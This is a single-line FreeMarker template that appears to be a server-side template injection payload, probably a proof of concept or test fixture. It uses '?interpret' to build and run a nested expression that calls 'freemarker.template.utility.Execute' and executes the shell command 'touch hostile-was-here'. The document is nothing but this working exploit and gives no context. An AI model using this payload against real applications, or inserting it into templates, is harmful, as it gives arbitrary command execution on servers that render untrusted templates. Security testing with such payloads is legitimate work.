<#assign code=r'${"freemarker.template.utility.Execute"?new()("touch hostile-was-here")}'?interpret><@code/>
